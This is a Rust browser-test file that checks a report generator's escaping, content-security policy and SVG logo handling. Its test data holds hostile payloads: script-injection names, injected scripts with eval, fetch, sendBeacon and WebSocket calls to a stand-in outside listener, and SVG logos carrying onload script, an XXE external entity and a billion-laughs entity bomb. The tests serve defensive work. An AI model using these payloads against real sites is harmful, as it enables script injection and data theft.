//! What keeps pages and sent files sealed: names come out of a parsed page as they went in, a logo is a picture
//! whatever it holds, and where all else failed the content-security policy lets nothing run or leave.

use std::fs;
use std::io::{ErrorKind, Read};
use std::net::TcpListener;
use std::time::Duration;

use overnight::experiment::settings::Task;
use overnight::report::export::{Surroundings, export};
use overnight::run_dir::{Workspace, scan};
use serde_json::json;

use crate::chrome::{Chrome, Scripts, with_browser};
use crate::hostile_records::{HOSTILE, edit, spoil};
use crate::made_up::Ending;
use crate::place::{Place, Serving};

/// A name that would end a script, begin a comment or break a line, were it not escaped: all that a folder's
/// name can hold of it.
const NAME: &str = "<!--<script>\u{2028}\u{2029}]]>${window.ran=1}'\"`&amp;";

fn sent(place: &Place) -> String {
    let workspace = Workspace::new(place.path());
    let sent = export(&workspace, &scan::runs(&workspace), Surroundings::Shown, None).unwrap();
    fs::write(place.path().join("reports/sent.html"), sent.html).unwrap();
    place.file("sent.html")
}

/// Comments, and scripts that stand in the page itself: ours all come from files.
const STRANGE: &str = "(() => {
    const comments = document.createTreeWalker(document, NodeFilter.SHOW_COMMENT);
    const found = [];
    while (comments.nextNode()) found.push(comments.currentNode.data);
    for (const script of document.scripts) if (!script.src || script.text) found.push(script.outerHTML.slice(0, 100));
    return found;
})()";

#[test]
fn names_come_out_of_the_parsed_page_as_they_went_in() {
    with_browser(Scripts::On, async |chrome| {
        let place = Place::of(2, Ending::AllFinished);
        let made = place.add(NAME, Task::LanguageModel, 1, Ending::AllFinished);
        let workspace = Workspace::new(place.path());
        let run = workspace.run(NAME, &format!("{NAME}-00000000"));
        fs::rename(workspace.run(NAME, &made[0]).path(), run.path()).unwrap();
        spoil(&run);
        edit(&run.run_json(), |record| record["run"] = json!(run.name()));
        place.build();
        let expected = json!([NAME, run.name(), HOSTILE]);

        for page in place.pages() {
            chrome.goto(&place.file(&page)).await;
            assert_eq!(chrome.texts(STRANGE).await, [""; 0], "{page}");
            assert!(!chrome.is("'ran' in window").await, "{page}");
        }
        // In what is seen.
        chrome.goto(&place.file(&place.page_of(&run))).await;
        let has = |what: &str| format!("(([experiment, run, text]) => {what})({expected})");
        let seen = "[...document.querySelectorAll('h1, a, code, p, span')].map((one) => one.textContent)";
        chrome.until("the name", &has(&format!("{seen}.some((said) => said.includes(experiment))"))).await;
        // A NUL is shown as what it is not.
        assert!(
            chrome
                .is(&has(&format!("{seen}.some((said) => said.includes(text.replace('\\0', '\\ufffd')))")))
                .await
        );
        // In the data of other pages.
        chrome.goto(&place.file("runs/index.html")).await;
        let rows = "overnightData['runs-0'].is";
        chrome.until("the data", "window.overnightData && overnightData['runs-0'] !== undefined").await;
        let listed = format!("{rows}.experiment.of.includes(experiment) && {rows}.id.of.includes(run)");
        assert!(chrome.is(&has(&listed)).await, "{}", chrome.text(&format!("JSON.stringify({rows})")).await);
        let link = "[...document.querySelectorAll('#runs a')].some((one) => one.title === run)";
        chrome.until("its row", &has(link)).await;
        // Where the link leads, there the page is.
        chrome
            .run(&has("[...document.querySelectorAll('#runs a')].find((one) => one.title === run).click()"))
            .await;
        chrome.until("its page", "location.pathname.split('/').at(-2).endsWith('-00000000') && document.title.includes('overnight')").await;
        let address = chrome
            .text(&has("'#runs=' + encodeURIComponent([experiment, run].map(encodeURIComponent).join('/'))"))
            .await;
        chrome.goto("about:blank").await;
        chrome.goto(&format!("{}{address}", place.file("compare.html"))).await;
        chrome.until("the table", "document.querySelector('#beside') !== null").await;
        let known = "overnightData[`run:${experiment}/${run}`]";
        assert!(chrome.is(&has(&format!("{known}.experiment === experiment && {known}.run === run"))).await);
        assert_eq!(chrome.texts(STRANGE).await, [""; 0]);

        // In the one file.
        chrome.goto(&sent(&place)).await;
        let own = "document.scripts.length === 3 && [...document.scripts].every((one, at) => one.id === ['charts', 'facts', ''][at])";
        assert!(chrome.is(own).await);
        chrome
            .run("window.held = null; const packed = document.getElementById('facts').textContent;
                const bytes = Uint8Array.from(atob(packed), (sign) => sign.charCodeAt(0));
                new Response(new Blob([bytes]).stream().pipeThrough(new DecompressionStream('gzip'))).text().then((text) => (window.held = text))")
            .await;
        chrome.until("the facts", "window.held !== null").await;
        let strings = "(() => { const all = []; JSON.parse(held, (_, value) => (typeof value === 'string' && all.push(value), value)); return all; })()";
        for place in 0..3 {
            let one = format!("{strings}.includes([experiment, run, text][{place}])");
            assert!(chrome.is(&has(&one)).await, "{place}: {}", chrome.text("held.slice(0, 2000)").await);
        }
        assert!(!chrome.is("'ran' in window").await);
    });
}

/// Tries what a script that got into a page would: what is refused is noted in `window.refused`. Later, since
/// what the driver sends may do more.
fn intrude(elsewhere: &str) -> String {
    format!(
        "window.refused = new Set();
         document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
         setTimeout(() => {{
         const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
         add('script', {{ textContent: 'window.ran = 1' }});
         add('script', {{ src: '{elsewhere}/a.js' }});
         document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.ran = 1\"></b>');
         document.body.lastElementChild.click();
         add('img', {{ src: '{elsewhere}/a.png' }});
         add('iframe', {{ src: '{elsewhere}/' }});
         add('object', {{ data: '{elsewhere}/a' }});
         add('link', {{ rel: 'stylesheet', href: '{elsewhere}/a.css' }});
         add('audio', {{ src: '{elsewhere}/a.ogg' }});
         add('base', {{ href: '{elsewhere}/' }});
         const form = Object.assign(document.createElement('form'), {{ action: '{elsewhere}/', method: 'post' }});
         document.body.append(form);
         form.submit();
         fetch('{elsewhere}/').catch(() => 0);
         navigator.sendBeacon('{elsewhere}/', 'x');
         new WebSocket('{elsewhere}/'.replace('http', 'ws'));
         try {{ new Worker(URL.createObjectURL(new Blob(['1']))); }} catch {{ }}
         try {{ (0, eval)('window.ran = 1'); }} catch {{ }}
         }}, 0);"
    )
}

const REFUSED: [&str; 9] = [
    "script-src-elem",
    "script-src-attr",
    "script-src",
    "img-src",
    "frame-src",
    "object-src",
    "style-src-elem",
    "form-action",
    "connect-src",
];

async fn refuses_all(chrome: &Chrome, elsewhere: &TcpListener, what: &str) {
    chrome.run(&intrude(&format!("http://{}/{WORD}", elsewhere.local_addr().unwrap()))).await;
    for directive in REFUSED {
        chrome.until(&format!("{what}: {directive} refused"), &format!("refused.has('{directive}')")).await;
    }
    assert!(!chrome.is("'ran' in window").await, "{what}");
    nobody_came(elsewhere, what);
    // Refusals are what was to come.
    chrome.complaints().await;
}

/// Stands in every address that a page is led to.
const WORD: &str = "left-the-page";

fn nobody_came(elsewhere: &TcpListener, what: &str) {
    elsewhere.set_nonblocking(true).unwrap();
    match elsewhere.accept() {
        Err(error) => assert_eq!(error.kind(), ErrorKind::WouldBlock, "{what}"),
        // The browser connects ahead of what it then does not ask; only what bears our word has left.
        Ok((mut stream, _)) => {
            stream.set_nonblocking(false).unwrap();
            stream.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
            let mut asked = [0; 500];
            let count = stream.read(&mut asked).unwrap_or(0);
            let asked = String::from_utf8_lossy(&asked[..count]).into_owned();
            assert!(!asked.contains(WORD), "{what}: {asked:?}");
        }
    }
}

#[test]
fn whatever_got_into_a_page_could_neither_run_nor_tell_anybody() {
    with_browser(Scripts::On, async |chrome| {
        let elsewhere = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let place = Place::of(2, Ending::AllFinished);
        place.build();
        chrome.goto(&sent(&place)).await;
        chrome.until("its data", "document.documentElement.dataset.sent === 'ready'").await;
        refuses_all(chrome, &elsewhere, "a sent file").await;
        let served = Serving::new(&place);
        let run = place.page_of(&place.runs[0]);
        let pages = [
            "index.html",
            "experiments/index.html",
            "experiments/depth/index.html",
            "runs/index.html",
            &run,
            "compare.html",
            "models.html",
            "system.html",
        ];
        for page in pages {
            chrome.goto(&served.page(page)).await;
            refuses_all(chrome, &elsewhere, page).await;
            chrome.goto("about:blank").await;
        }
    });
}

#[test]
fn a_logo_is_a_picture_even_where_nobody_looked_into_it() {
    with_browser(Scripts::On, async |chrome| {
        let elsewhere = TcpListener::bind(("127.0.0.1", 0)).unwrap();
        let there = format!("http://{}/{WORD}", elsewhere.local_addr().unwrap());
        let place = Place::of(1, Ending::AllFinished);
        place.build();
        let served = Serving::new(&place);
        let run = "try { parent.ran = top.ran = 1 } catch { } window.ran = 1";
        let laughs: String = (1..10)
            .map(|number| format!("<!ENTITY l{number} \"{}\">", format!("&l{};", number - 1).repeat(10)))
            .collect();
        let svg = |inside: &str| {
            format!(
                "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' viewBox='0 0 9 9' onload='{run}'>{inside}</svg>"
            )
        };
        let logos = [
            svg(&format!("<script>{run}</script><script href='{there}/a.js'/>")),
            svg(&format!(
                "<image href='{there}/a.png'/><use href='{there}/a.svg#x'/><image xlink:href='{there}/b.png'/>"
            )),
            svg(&format!(
                "<style>@import url({there}/a.css); * {{ fill: url({there}/b.svg#x) }}</style><rect width='9' height='9'/>"
            )),
            svg(&format!(
                "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='{there}/'/></foreignObject>"
            )),
            format!("<!DOCTYPE svg [<!ENTITY x SYSTEM '{there}/x'>]>{}", svg("<text y='9'>&x;</text>")),
            format!("<!DOCTYPE svg [<!ENTITY l0 \"ha\">{laughs}]>{}", svg("<text y='9'>&l9;</text>")),
        ];
        for logo in logos {
            fs::write(place.path().join("reports/assets/logo.svg"), &logo).unwrap();
            let what: String = logo.chars().take(300).collect();
            for address in [place.file("index.html"), served.page("index.html")] {
                chrome.goto("about:blank").await;
                chrome.goto(&address).await;
                chrome.until("the logo", "document.querySelector('img.logo').complete").await;
                assert!(!chrome.is("'ran' in window").await, "{what}");
                assert!(chrome.is("document.querySelector('h1').textContent.length > 3").await, "{what}");
                nobody_came(&elsewhere, &what);
            }
            // As a page of its own, where a browser would run it.
            chrome.goto(&served.page("assets/logo.svg")).await;
            assert!(!chrome.is("'ran' in window").await, "{what}");
            nobody_came(&elsewhere, &what);
        }
    });
}
